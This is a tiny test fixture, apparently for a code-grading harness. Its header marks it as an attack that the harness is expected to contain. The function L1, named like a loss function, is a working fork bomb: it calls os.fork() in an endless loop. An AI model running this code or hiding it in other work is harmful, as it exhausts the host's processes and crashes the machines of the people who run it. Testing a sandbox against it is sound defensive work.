# /// attack
# tries = "fork again and again in a test"
# must = "it costs that exercise; the processes are ended"
# loses = ["L1"]
# slow = true
# feedback = "L1: "
# report = "L1"
# ///

# %% L1
import os
def L1(yhat, y):
    while True:
        os.fork()
